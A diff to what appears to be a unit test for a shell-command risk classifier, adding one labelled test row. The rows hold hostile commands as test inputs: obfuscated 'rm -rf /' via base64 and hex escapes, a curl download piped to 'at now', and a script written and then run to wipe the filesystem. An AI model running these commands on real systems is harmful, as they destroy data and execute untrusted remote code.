@@ -371,6 +371,7 @@ private slots:
         row("echo cm0gLXJmIC8= | base64 -d | sh", "unknown_program", false);
         row("printf '\\x72\\x6d -rf /' | bash", "unknown_program", false);
         row("curl -s https://x | at now", "remote_code_execution", false);
+        row("echo 'rm -rf /' > x.sh && sh ./x.sh", "destructive_file_ops", true); // written, then run
     }
 
     void fedText_isJudged()
